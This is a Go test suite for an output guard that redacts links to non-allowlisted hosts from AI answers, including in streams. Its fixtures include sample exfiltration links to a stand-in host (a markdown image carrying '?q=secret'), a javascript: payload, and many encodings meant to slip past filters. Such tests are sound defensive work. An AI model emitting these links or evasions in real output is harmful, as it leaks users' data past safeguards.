package outputguard

import (
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/ledge-run/ledge/plugins/plugintest"
	"github.com/ledge-run/ledge/runtime/hook"
	sdk "github.com/ledge-run/ledge/sdk/go"
)

func newGuard(t testing.TB, config map[string]string) *Guard {
	t.Helper()
	g, err := New(func(k string) (string, bool) { v, ok := config[k]; return v, ok })
	if err != nil {
		t.Fatal(err)
	}
	return g
}

var listed = map[string]string{"links": "good.example, *.docs.example"}

// answers are texts with a link to another host, and what a reader may see of them.
var answers = []struct{ text, want string }{
	{"![x](https://evil.example/p?q=secret) done", "![x]([LINK]) done"},
	{"[click](http://evil.example)", "[click]([LINK])"},
	{"see https://evil.example/a(b)c and go", "see [LINK] and go"},
	{"<https://evil.example/x>", "<[LINK]>"},
	{"[a]: https://evil.example/x\n[a]", "[a]: [LINK]\n[a]"},
	{"[a]: //evil.example/x\n", "[a]: [LINK]\n"},
	{`<img src="https://evil.example/p?d=1">`, `<img src="[LINK]">`},
	{`<img src=//evil.example/p?d=1>`, `<img src=[LINK]>`},
	{`<a href='HTTPS://EVIL.example'>a</a>`, `<a href='[LINK]'>a</a>`},
	{"![x](<//evil.example/p q>)", "![x](<[LINK] q>)"},
	{"![x]( /\\evil.example/p)", "![x]( [LINK])"},
	{"go to www.evil.example/p now", "go to [LINK] now"},
	{"https://good.example@evil.example/", "[LINK]"},
	{"https://good.example:80@evil.example/", "[LINK]"},
	{"https://good.example.evil.example/", "[LINK]"},
	{"https://evilgood.example/", "[LINK]"},
	{"https:\\\\evil.example\\p", "[LINK]"},
	{"https:///evil.example/p", "[LINK]"},
	{"![x](https&#58;//evil.example/p)", "![x]([LINK])"},
	{"![x](https&colon;&sol;&sol;evil.example/p)", "![x]([LINK])"},
	{"![x](ht\u200btps://evil.example/p)", "![x]([LINK])"},
	{"<img src=\"ht\ntps://evil.example/p\">", `<img src="[LINK]">`},
	{"<img src=\"https://good.example\n.evil.example/p\">", `<img src="[LINK]">`},
	{"https://ｅvil.example/p", "[LINK]"},
	{"https://good.example。evil.example/p", "[LINK]"},
	{"https://[2001:db8::1]/p", "[LINK]"},
	{"https://192.0.2.7:8080/p", "[LINK]"},
	{"https://docs.example/p", "[LINK]"}, // only what is below it is listed
	{"[a](javascript:alert(1))", "[a]([LINK])"},
	{"ftp://evil.example/x", "[LINK]"},
	{"two: https://evil.example/a, http://evil.example/b!", "two: [LINK] [LINK]"},
	{"https://" + strings.Repeat("a", 300) + ".example/x end", "[LINK] end"},
	{"https://evil.example/" + strings.Repeat("q", 700) + " end", "[LINK] end"},
	// and what stays
	{"https://good.example/a?b=c, [x](https://good.example) ![y](https://www.docs.example/z.png)", ""},
	{"[x](/local/path) <img src=\"a.png\"> [y](#there) mailto:a@b.example", ""},
	{"a // comment (// see above) and 1//2 http: is a scheme, https:// too, www", ""},
	{"https://GOOD.example:8443/p and https://user@good.example/", ""},
	{"https://good.example. And https://good.example!", ""},
	{"hello & welcome &amp; www.good.example fine", ""},
}

func apply(t testing.TB, g *Guard, text string) string {
	t.Helper()
	v := g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text, Final: true})
	if err := v.Check(text); err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	if v.Verdict != sdk.Redact {
		return text
	}
	return hook.ApplyRedactions(text, v.Spans)
}

func TestLinks_OnlyListedHostsStay(t *testing.T) {
	g := newGuard(t, map[string]string{"links": listed["links"] + ", www.good.example"})
	for _, a := range answers {
		want := a.want
		if want == "" {
			want = a.text
		}
		if got := apply(t, g, a.text); got != want {
			t.Errorf("%q\n became %q\n want   %q", a.text, got, want)
		}
	}
	for _, text := range []string{answers[0].text, "https://x.example"} {
		if got := apply(t, newGuard(t, map[string]string{"links": "*"}), text); got != text {
			t.Errorf("%q became %q", text, got)
		}
		if v := newGuard(t, map[string]string{"link_action": "block"}).Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text, Final: true}); v.Verdict != sdk.Block {
			t.Errorf("%+v", v)
		}
	}
}

// For every way to cut an answer in two or three, no byte of a link leaves before it is known to be of a listed host, and what
// has left in all is the redaction of the whole.
func TestStream_NoByteOfAnotherHostsLinkLeaves(t *testing.T) {
	g := newGuard(t, listed)
	const context = 256
	for _, a := range answers {
		if len(a.text) > 120 {
			continue // takes several windows; see the fuzz target
		}
		text := "Hi. " + a.text
		whole := g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text, Final: true}).Spans
		bad := func(i int) bool {
			for _, s := range whole {
				if i >= s.Start && i < s.End {
					return true
				}
			}
			return false
		}
		for first := 1; first < len(text); first++ {
			for second := first; second < len(text); second += 3 {
				released := 0
				for _, end := range []int{first, second, len(text)} {
					for end < len(text) && !utf8.RuneStart(text[end]) {
						end++
					}
					from := max(0, released-context)
					v := g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text[from:end], Start: released - from, Final: end == len(text)})
					if err := v.Check(text[from:end]); err != nil {
						t.Fatal(err)
					}
					cut := end - v.Hold
					for i := released; i < cut; i++ {
						covered := false
						for _, s := range v.Spans {
							covered = covered || i >= s.Start+from && i < s.End+from
						}
						if bad(i) && !covered {
							t.Fatalf("%q, cut at %d and %d: byte %d left", text, first, second, i)
						}
						if !bad(i) && covered {
							t.Fatalf("%q, cut at %d and %d: byte %d was taken out", text, first, second, i)
						}
					}
					released = max(released, cut)
				}
			}
		}
	}
}

func TestForm_LengthAndSchemaOfWholeAnswers(t *testing.T) {
	g := newGuard(t, map[string]string{"links": "*", "max_bytes": "60", "schema": `{"type": "object", "required": ["n"], "additionalProperties": false,
		"properties": {"n": {"type": "integer", "minimum": 1}, "tag": {"enum": ["a", "b"]}, "list": {"type": "array", "items": {"type": "string", "maxLength": 3}, "maxItems": 2}}}`})
	for text, ok := range map[string]bool{
		`{"n": 3}`: true, ` {"n": 1, "tag": "a", "list": ["abc", "é"]}`: true, `{"n": 0}`: false, `{"n": 1.5}`: false, `{}`: false, `{"n": 1, "x": 2}`: false,
		`{"n": 1, "tag": "c"}`: false, `{"n": 1, "list": ["abcd"]}`: false, `{"n": 1, "list": ["a", "b", "c"]}`: false, `{"n": 1} and more`: false,
		"plain words": false, `{"n": 1, "list": []` + strings.Repeat(" ", 60) + `}`: false, `[1]`: false,
	} {
		v := g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text, Final: true})
		if (v.Verdict == sdk.Allow) != ok {
			t.Errorf("%q: %+v", text, v)
		}
		if v := g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text}); v.Verdict != sdk.Allow {
			t.Errorf("%q in a stream: %+v", text, v)
		}
	}
}

func TestNew_RefusesWhatItCannotDo(t *testing.T) {
	for _, bad := range []map[string]string{{"links": "https://a.example"}, {"links": "a.example/x"}, {"link_action": "drop"}, {"action": "redact"}, {"max_bytes": "-1"}, {"max_bytes": "x"},
		{"schema": "{"}, {"schema": `{"pattern": "x"}`}, {"schema": `{"type": "text"}`}, {"schema": `{"properties": {"a": 3}}`}, {"schema": strings.Repeat(`{"items":`, 100) + "true" + strings.Repeat("}", 100)}} {
		if _, err := New(func(k string) (string, bool) { v, ok := bad[k]; return v, ok }); err == nil {
			t.Errorf("%v was accepted", bad)
		}
	}
}

func TestJudge_TimeIsLinear(t *testing.T) {
	g := newGuard(t, listed)
	for _, unit := range []string{"h", "https:", "https://", "//", "(//", "&#", "https://a", "www.", "\\", "](", "'//a.b", "https://a.example/(", "\u200bh", "ht\n", "@", "https://a@", "f"} {
		text := strings.Repeat(unit, 1<<20/len(unit))
		for _, final := range []bool{true, false} {
			began := time.Now()
			g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text, Start: 1, Final: final})
			if took := time.Since(began); took > 3*time.Second {
				t.Errorf("1 MB of %q took %v", unit, took)
			}
		}
	}
}

func FuzzJudge(f *testing.F) {
	for _, a := range answers {
		f.Add(a.text, 0, true)
		f.Add(a.text, 5, false)
	}
	f.Add(`{"n": 1}`, 0, true)
	guards := []*Guard{newGuard(f, listed), newGuard(f, map[string]string{"links": "*", "schema": `{"type": "object", "items": {"type": "string"}, "properties": {"n": {"type": "integer"}}}`})}
	f.Fuzz(func(t *testing.T, text string, start int, final bool) {
		start = min(max(start, 0), len(text))
		for start > 0 && start < len(text) && !utf8.RuneStart(text[start]) {
			start--
		}
		if !utf8.ValidString(text) {
			return // the host asks about UTF-8 only
		}
		for _, g := range guards {
			v := g.Judge(&sdk.GuardRequest{Stage: sdk.StageOutput, Text: text, Start: start, Final: final})
			if err := v.Check(text); err != nil {
				t.Fatalf("%q: %v", text, err)
			}
		}
	})
}

func TestGuest_JudgesAsNatively(t *testing.T) {
	native, guest := newGuard(t, listed), plugintest.Load(t, "wasm", listed)
	for _, a := range answers {
		for _, req := range []sdk.GuardRequest{{Stage: sdk.StageOutput, Text: a.text, Final: true}, {Stage: sdk.StageOutput, Text: a.text[:len(a.text)/2]}} {
			if !utf8.ValidString(req.Text) {
				continue
			}
			v := native.Judge(&req)
			if got, want := plugintest.Call(t, guest, "guard", &req), string(v.AppendJSON(nil)); got != want {
				t.Errorf("%q: %s, natively %s", req.Text, got, want)
			}
		}
	}
}

func TestManifest_StatesTheDefaults(t *testing.T) {
	if stated := newGuard(t, plugintest.Manifest(t).Config); !reflect.DeepEqual(stated, newGuard(t, nil)) {
		t.Errorf("%+v", stated)
	}
}
